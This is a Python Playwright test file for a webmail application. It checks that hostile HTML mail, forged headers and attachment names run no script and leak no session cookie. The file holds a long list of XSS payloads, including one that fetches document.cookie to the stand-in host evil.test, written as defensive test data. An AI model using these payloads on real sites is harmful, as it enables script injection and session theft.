"""Hostile mail: nothing in it runs, nothing leaks the session, the page stays usable.

Each payload, if it ran, would open a dialog, log "xss-ran", or request a URL with "xss"
in it; the Watch on the page (conftest) records all three. The session cookie is
HttpOnly, so even script on our own origin could not read it; the checks below make
sure no script of the mail gets that far."""
import base64

import pytest
from playwright.sync_api import expect

from tests.webmail.conftest import deliver, make_mail

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]

RUN = "alert('xss');console.log('xss-ran');fetch('https://evil.test/xss-fetch?'+document.cookie)"
HTML_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    "<a href=\"javascript:alert('xss')\" id=jslink>click me</a>",
    "<a href=\"  JaVaScRiPt:alert('xss')\">spaced</a><a href=\"data:text/html,<script>alert('xss')</script>\">data</a>",
    "<div style=\"width: expression(alert('xss')); background:url('javascript:alert(1)')\">css</div>",
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><animate onbegin=\"{RUN}\"/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
    f"<<script>{RUN};//<</script><img \"\"\"><script>{RUN}</script>\">",
    f"<iframe src=\"javascript:alert('xss')\"></iframe><object data=\"https://evil.test/xss.swf\"></object><embed src=\"https://evil.test/xss.swf\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/xss-refresh\">",
    "<form action=\"https://evil.test/xss-form\"><input name=q value=1><button id=go>go</button></form>",
    "<base href=\"https://evil.test/xss-base/\"><a href=\"relative\">rel</a>",
    "<link rel=stylesheet href=\"https://evil.test/xss.css\"><img src=\"https://evil.test/xss.png\">",
    "<style>@import 'https://evil.test/xss-import.css'; body{background:url(https://evil.test/xss-bg.png)}</style>",
    "<table background=\"https://evil.test/xss-table.png\"><tr><td background=\"https://evil.test/xss-td.png\">t</td></tr></table>",
    f"<details open ontoggle=\"{RUN}\"><summary>s</summary></details><body onload=\"{RUN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><script>{RUN}</script></template><textarea><script>{RUN}</script></textarea>",
    "<!--<img src=x onerror=alert('xss')>--><![CDATA[<img src=x onerror=alert('xss')>]]>",
    "<div>" * 3000 + "deep" + "</div>" * 3000,
]


def forged_header_mails():
    script_b64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    yield (
        f"From: \"<img src=x onerror={RUN}>\" <x@elsewhere.test>\r\n"
        f"To: <script>{RUN}</script>@example.test\r\n"
        f"Subject: =?UTF-8?B?{script_b64}?= <svg onload=alert('xss')>\r\n"
        "X-Evil: <script>alert('xss')</script>\r\n"
        "Content-Type: text/plain\r\n\r\n"
        "javascript:alert('xss') <script>alert('xss')</script> https://ok.test/\"onmouseover=\"alert('xss')\r\n"
    ).encode()
    yield make_mail(
        "attachment names", attachments=[(f"\"><img src=x onerror={RUN}>.png", "image/png", b"\x89PNG\r\n\x1a\n"),
                                         ("x.html", "text/html", f"<script>{RUN}</script>".encode())],
    )
    # A huge message: 8 MiB of HTML.
    yield make_mail("huge", html="<p>" + "<b>bold</b> <i>x</i> " * 400_000 + "</p>")


def open_and_check(page, message):
    page.goto(f"/f/{message.folder_id}/m/{message.uid}/")
    frame = page.locator("iframe.body-frame")
    if frame.count():
        frame.wait_for()
        page.frame_locator("iframe.body-frame").locator("body").wait_for()
        for link_id in ("jslink", "go"):
            inner = page.frame_locator("iframe.body-frame").locator(f"#{link_id}")
            if inner.count():
                inner.click()
    page.wait_for_timeout(300)
    expect(page.get_by_role("button", name="Delete")).to_be_enabled()  # the page stays usable
    watch = page.watch
    assert watch.dialogs == [], watch.dialogs
    assert watch.scripts_ran == [], watch.scripts_ran
    assert watch.leaks == [], watch.leaks
    assert page.evaluate("document.cookie").find("sessionid") == -1


def test_hostile_html_runs_nothing_and_leaks_nothing(alice, page, sign_in):
    messages = [deliver(alice, make_mail(f"hostile {i}", html=payload)) for i, payload in enumerate(HTML_PAYLOADS)]
    sign_in(page, alice)
    for message in messages:
        open_and_check(page, message)
    # Even with remote images allowed, nothing runs and only images load.
    page.goto(f"/f/{messages[12].folder_id}/m/{messages[12].uid}/?images=1")
    page.frame_locator("iframe.body-frame").locator("body").wait_for()
    page.wait_for_timeout(300)
    assert page.watch.dialogs == [] and page.watch.scripts_ran == []
    assert all(url.endswith(".png") for url in page.watch.leaks), page.watch.leaks


def test_forged_headers_names_and_huge_mail_run_nothing(alice, page, sign_in):
    messages = [deliver(alice, raw) for raw in forged_header_mails()]
    sign_in(page, alice)
    expect(page.locator(".message-row")).to_have_count(3)
    page.wait_for_timeout(300)
    assert page.watch.dialogs == [] and page.watch.scripts_ran == [] and page.watch.leaks == []
    for message in messages:
        open_and_check(page, message)
    page.goto(f"/f/{messages[0].folder_id}/m/{messages[0].uid}/")
    expect(page.locator("#subject")).to_contain_text("<script>")  # shown as text
